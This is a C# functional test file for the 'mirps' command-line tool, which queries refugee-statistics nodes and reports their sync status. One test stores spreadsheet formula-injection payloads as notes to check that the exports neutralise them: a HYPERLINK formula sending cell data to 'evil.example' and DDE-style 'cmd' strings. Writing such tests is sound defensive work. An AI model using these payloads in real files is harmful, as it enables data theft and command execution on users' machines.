using System.CommandLine;
using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text.Json;
using Mirps.Auth;
using Mirps.Observation.V1;
using MirpsExchange.Catalogue.Exports;
using MirpsExchange.Cli;
using MirpsExchange.Cli.Commands;
using MirpsExchange.FunctionalTests.Infrastructure;
using static MirpsExchange.FunctionalTests.Infrastructure.Samples;
using MirpsExchange.ServiceDefaults;

namespace MirpsExchange.FunctionalTests;

/// <summary><c>mirps query</c> and <c>mirps sync status</c> against real nodes holding submitted data.</summary>
public class CliQueryTests
{
    private static Task<(int Code, string Output, string Error)> RunAsync(params string[] args) => CliRunner.RunAsync(args);

    /// <summary>--node, --identity and --credential reaching <paramref name="node"/> with <paramref name="reader"/>'s shared credential (a State, or "" for the Secretariat).</summary>
    private static async Task<string[]> ArgsAsAsync(TestNode node, string reader, ClientCredential? credential = null)
    {
        var file = Path.Combine(node.Folder, $"reader-{Guid.NewGuid():N}.json");
        OwnerOnlyFile.WriteAllText(file, JsonSerializer.Serialize(credential ?? await SharedIdentity.CredentialAsync(reader)));
        return ["--node", node.Address, "--node-country", node.Country, "--identity", node.Identity.Issuer, "--credential", file];
    }

    private static Observation WorkPermits(string sex, double value, string note = "")
    {
        // WORK_PERMITS breaks down by sex and country of origin, not by age: its age stays empty.
        var o = Refugees(sex: sex, value: value);
        o.IndicatorCode = "WORK_PERMITS";
        o.Age = "";
        o.Note = note;
        return o;
    }

    private static List<string> Sorted(IEnumerable<ExportRow> rows) => [.. rows.Select(r => r.ToString()).Order(StringComparer.Ordinal)];

    [Fact]
    public async Task Query_prints_a_table_of_the_submitted_values_with_Spanish_names()
    {
        await using var node = await TestNode.StartAsync("BLZ");
        await node.Observations.SubmitObservationsAsync(Submit(Refugees(value: 240), Refugees(sex: "F", value: 120), WorkPermits("M", 1_234_567)));

        var result = await RunAsync(["query", .. node.CliArgs, "--indicator", "refugees,WORK_PERMITS", "--labels", "es"]);

        Assert.True(result.Code == CliApp.Ok, result.Error + result.Output);
        Assert.Matches(@"REFUGEES\s*│\s*Personas refugiadas\s*│\s*BLZ\s*│\s*2023\s*│\s*_T\s*│\s*_T\s*│\s*_T\s*│\s*-\s*│\s*240\s*│\s*NORMAL\s*│\s*-\s*│\s*1\s*│", result.Output);
        Assert.Matches(@"REFUGEES\s*│\s*Personas refugiadas\s*│\s*BLZ\s*│\s*2023\s*│\s*F\s*│\s*_T\s*│\s*_T\s*│\s*-\s*│\s*120\s*│", result.Output);
        Assert.Matches(@"WORK_PERMITS\s*│.*│\s*BLZ\s*│\s*2023\s*│\s*M\s*│\s*-\s*│\s*_T\s*│\s*-\s*│\s*1,234,567\s*│", result.Output);
        Assert.Contains("3 observations", result.Output);
        Assert.DoesNotContain("withheld", result.Output);
        Assert.DoesNotContain('\u001b', result.Output);
        Assert.Equal("", result.Error);
    }

    [Fact]
    public async Task Csv_and_sdmx_output_read_back_to_exactly_the_submitted_observations()
    {
        await using var node = await TestNode.StartAsync("BLZ");
        // A statistic that breaks down by country of origin only, provisional, with a decimal value.
        var median = Refugees(value: 118.5);
        median.IndicatorCode = "MEDIAN_PROCESSING_DAYS";
        median.Sex = median.Age = "";
        median.Status = ObservationStatus.Provisional;
        Observation[] submitted =
        [
            Refugees(value: 240, origin: "_T"), Refugees(sex: "F", value: 120, origin: "SLV"),
            WorkPermits("F", 7, note: "from \"SIGMA\", registry, 2023\nrevised"), median,
        ];
        await node.Observations.SubmitObservationsAsync(Submit(submitted));
        var file = Path.Combine(node.Folder, "export.csv");

        var csv = await RunAsync(["query", .. node.CliArgs, "--format", "csv", "--out", file]);
        var sdmx = await RunAsync(["query", .. node.CliArgs, "--format", "sdmx", "--country", "BLZ"]);

        Assert.True(csv.Code == CliApp.Ok, csv.Error + csv.Output);
        Assert.Contains($"Wrote 4 observations from {node.Address}", csv.Output);
        Assert.Equal(Sorted(submitted.Select(ExportRow.From)), Sorted(ExportReader.Read(await File.ReadAllTextAsync(file))));
        Assert.Equal(["credential.json", "export.csv"], Directory.GetFiles(node.Folder).Select(Path.GetFileName).Order()); // no partial file left
        Assert.True(sdmx.Code == CliApp.Ok, sdmx.Error);
        Assert.StartsWith("STRUCTURE,STRUCTURE_ID,ACTION,", sdmx.Output);
        Assert.Contains("dataflow,MIRPS:DF_MIRPS_PROTECTION(2.1.0),I,", sdmx.Output);
        Assert.Equal(Sorted(submitted.Select(ExportRow.From)), Sorted(ExportReader.Read(sdmx.Output)));
    }

    [Fact]
    public async Task Notes_a_spreadsheet_would_run_come_out_neutralised_in_both_formats_and_read_back_to_the_submitted_text()
    {
        await using var node = await TestNode.StartAsync("BLZ");
        string[] notes =
        [
            "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Fuente: CONARE\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-1+1", "\tx", "'quoted by the State",
        ];
        var submitted = notes.Select((note, i) =>
        {
            var o = Refugees(period: $"{2015 + i}", value: 10 + i);
            o.Note = note;
            return o;
        }).ToArray();
        await node.Observations.SubmitObservationsAsync(Submit(submitted));
        Assert.Equal(notes.Order(StringComparer.Ordinal), (await node.QueryAsync()).Select(s => s.Observation.Note).Order(StringComparer.Ordinal)); // stored as sent
        var file = Path.Combine(node.Folder, "formulas.csv");

        var csv = await RunAsync(["query", .. node.CliArgs, "--format", "csv", "--out", file]);
        var sdmx = await RunAsync(["query", .. node.CliArgs, "--format", "sdmx", "--labels", "es"]);

        Assert.True(csv.Code == CliApp.Ok, csv.Error + csv.Output);
        Assert.True(sdmx.Code == CliApp.Ok, sdmx.Error);
        foreach (var export in new[] { await File.ReadAllTextAsync(file), sdmx.Output })
        {
            foreach (var note in notes)
            {
                // The note is the last cell of a row in both formats: a quote before it, then RFC 4180 quoting where needed.
                Assert.Contains("," + MirpsExchange.Catalogue.Csv.ObservationCsv.Quote("'" + note) + "\r\n", export);
                Assert.DoesNotContain("," + MirpsExchange.Catalogue.Csv.ObservationCsv.Quote(note) + "\r\n", export);
            }
            Assert.Equal(Sorted(submitted.Select(ExportRow.From)), Sorted(ExportReader.Read(export)));
        }
    }

    [Fact]
    public async Task As_of_a_time_before_a_revision_returns_the_old_value()
    {
        await using var node = await TestNode.StartAsync("BLZ");
        await node.Observations.SubmitObservationsAsync(Submit(Refugees(value: 230)));
        var first = Assert.Single(await node.QueryAsync()).RecordedTime.ToDateTimeOffset();
        await node.Observations.SubmitObservationsAsync(Submit(Refugees(value: 240)));
        var asOf = first.ToString("yyyy-MM-dd'T'HH:mm:ss.ffffff'Z'", CultureInfo.InvariantCulture);

        var then = await RunAsync(["query", .. node.CliArgs, "--format", "csv", "--as-of", asOf]);
        var now = await RunAsync(["query", .. node.CliArgs, "--format", "csv"]);
        var before = await RunAsync(["query", .. node.CliArgs, "--as-of", first.AddSeconds(-1).ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture)]);

        Assert.True(then.Code == CliApp.Ok, then.Error);
        Assert.Equal(230, Assert.Single(ExportReader.Read(then.Output)).Value);
        Assert.Equal(240, Assert.Single(ExportReader.Read(now.Output)).Value);
        Assert.Equal(CliApp.Ok, before.Code);
        Assert.Contains("No observations match the query.", before.Output);
    }

    [Fact]
    public async Task Values_withheld_by_the_sharing_policy_show_as_withheld_never_as_zero()
    {
        await using var node = await TestNode.StartAsync("BLZ", null, ShareWithAll, "--Node:Sharing:Default:SmallCountThreshold=5");
        // M is withheld too, or _T - M would give F away (complementary suppression).
        await node.Observations.SubmitObservationsAsync(Submit(Refugees(sex: "F", value: 3), Refugees(sex: "M", value: 6), Refugees(value: 9)));
        var costaRica = await ArgsAsAsync(node, "CRI");

        var table = await RunAsync(["query", .. costaRica]);
        var csv = await RunAsync(["query", .. costaRica, "--format", "csv"]);
        var sdmx = await RunAsync(["query", .. costaRica, "--format", "sdmx"]);
        var owner = await RunAsync(["query", .. node.CliArgs, "--format", "csv"]);

        Assert.True(table.Code == CliApp.Ok, table.Error);
        Assert.Matches(@"│\s*F\s*│\s*_T\s*│\s*_T\s*│\s*-\s*│\s*\(withheld\)\s*│\s*CONFIDENTIAL\s*│", table.Output);
        Assert.Matches(@"│\s*_T\s*│\s*_T\s*│\s*_T\s*│\s*-\s*│\s*9\s*│\s*NORMAL\s*│", table.Output);
        Assert.Matches(@"│\s*M\s*│\s*_T\s*│\s*_T\s*│\s*-\s*│\s*\(withheld\)\s*│\s*CONFIDENTIAL\s*│", table.Output);
        Assert.Contains("(withheld): 2 values the node withholds", table.Output);
        Assert.Contains("REFUGEES,BLZ,2023,F,_T,_T,,,,,,,CONFIDENTIAL,", csv.Output);
        Assert.Contains(",BLZ,F,_T,_T,_Z,_Z,_Z,_Z,_Z,2023,,C,", sdmx.Output);
        foreach (var export in new[] { csv.Output, sdmx.Output })
        {
            var withheld = Assert.Single(ExportReader.Read(export), r => r.Sex == "F");
            Assert.Equal((null, ObservationStatus.Confidential), (withheld.Value, withheld.Status));
        }
        Assert.Equal(3, Assert.Single(ExportReader.Read(owner.Output), r => r.Sex == "F").Value);
    }

    [Fact]
    public async Task An_invalid_filter_prints_the_nodes_field_violation_naming_the_option_and_exits_1()
    {
        await using var node = await TestNode.StartAsync("BLZ");

        var result = await RunAsync(["query", .. node.CliArgs, "--sex", "F", "--sex", "x"]);
        var periods = await RunAsync(["query", .. node.CliArgs, "--period-from", "2024", "--period-to", "2023"]);

        Assert.Equal(CliApp.Refused, result.Code);
        Assert.Contains($"error: the node at {node.Address}", result.Error);
        Assert.Contains("refused the request (InvalidArgument):", result.Error);
        Assert.Contains("  --sex 'X' (sexes[1]): ", result.Error);
        Assert.Equal("", result.Output);
        Assert.Equal(CliApp.Refused, periods.Code);
        Assert.Contains("--period-to '2023' (period_to): ", periods.Error);
    }

    [Fact]
    public async Task An_unreachable_node_and_a_wrong_secret_fail_with_exit_code_2_and_cleartext_to_another_machine_is_refused()
    {
        await using var node = await TestNode.StartAsync("BLZ");
        var listener = new TcpListener(IPAddress.Loopback, 0); // a port that was free a moment ago: nothing listens on it
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        listener.Stop();
        var args = node.CliArgs;

        var unreachable = await RunAsync(["query", .. args[2..], "--node", $"http://127.0.0.1:{port}"]);
        var unreachableStatus = await RunAsync(["sync", "status", .. args[2..], "--node", $"http://127.0.0.1:{port}"]);
        var wrongSecret = await RunAsync(["query", .. await ArgsAsAsync(node, "", new ClientCredential(node.Credential.ClientId, "not-the-secret"))]);
        var remote = await RunAsync(["query", .. args[2..], "--node", "http://192.0.2.1:5100"]);

        Assert.Equal(CliApp.Failed, unreachable.Code);
        Assert.Contains($"error: the node at http://127.0.0.1:{port}/ could not be reached or is unavailable (Unavailable", unreachable.Error);
        Assert.Equal(CliApp.Failed, unreachableStatus.Code);
        Assert.Contains("could not be reached", unreachableStatus.Error);
        Assert.Equal(CliApp.Failed, wrongSecret.Code);
        Assert.Contains($"error: no token from the identity server at {node.Identity.Issuer} for {node.Credential.ClientId}: ", wrongSecret.Error);
        Assert.Equal(CliApp.Refused, remote.Code);
        Assert.Contains("cleartext", remote.Error);
    }

    [Fact]
    public async Task Sync_status_prints_each_origins_latest_sequence_and_exits_0()
    {
        await using var node = await TestNode.StartAsync("BLZ");
        await node.Observations.SubmitObservationsAsync(Submit(Refugees(value: 230), Refugees(sex: "F", value: 120)));
        await node.Observations.SubmitObservationsAsync(Submit(Refugees(value: 240)));

        var result = await RunAsync(["sync", "status", .. await ArgsAsAsync(node, "")]);

        Assert.True(result.Code == CliApp.Ok, result.Error + result.Output);
        Assert.Contains($"the node of BLZ at {node.Address}/: catalogue 2.1.0 (digest ", result.Output);
        Assert.Matches(@"│\s*BLZ\s*│\s*3\s*│\s*\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}Z\s*│", result.Output);
        Assert.Contains("No peers configured", result.Output);
        Assert.DoesNotContain('\u001b', result.Output); // no terminal escape codes in a pipe or a file
        Assert.Equal("", result.Error);
    }

    [Fact]
    public async Task Sync_status_exits_3_naming_the_pull_while_a_peer_is_failing_as_the_help_says()
    {
        var folder = TempFolder.Create();
        try
        {
            var puller = Path.Combine(folder, "puller.json");
            OwnerOnlyFile.WriteAllText(puller, JsonSerializer.Serialize(await SharedIdentity.CredentialAsync("")));
            await using var replica = await TestNode.StartAsync("PAN", null,
                $"--Node:Credential={puller}", "--Node:Peers:0:Address=http://127.0.0.1:1", "--Node:Peers:0:Origins:0=BLZ", "--Node:Peers:0:Country=BLZ");
            var args = await ArgsAsAsync(replica, "PAN");

            // The pull starts as connecting and turns failing once its first attempt fails.
            var deadline = DateTime.UtcNow.AddSeconds(20);
            var result = await RunAsync(["sync", "status", .. args]);
            while (result.Code != SyncCommand.PeerUnhealthy && DateTime.UtcNow < deadline)
            {
                await Task.Delay(200);
                result = await RunAsync(["sync", "status", .. args]);
            }
            var help = await RunAsync("sync", "status", "--help");

            Assert.True(result.Code == SyncCommand.PeerUnhealthy, result.Error + result.Output);
            Assert.Matches(@"http://127\.0\.0\.1:1\S*\s*│\s*BLZ\s*│\s*failing\s*│\s*0\s*│", result.Output);
            Assert.StartsWith("error: the pull of BLZ from http://127.0.0.1:1", result.Error);
            Assert.Contains(" is failing: ", result.Error);
            Assert.DoesNotContain('\u001b', result.Output);
            Assert.Contains("3 the node answered but a pull from a peer is failing or stopped", System.Text.RegularExpressions.Regex.Replace(help.Output, @"\s+", " "));
        }
        finally
        {
            TempFolder.Delete(folder);
        }
    }
}
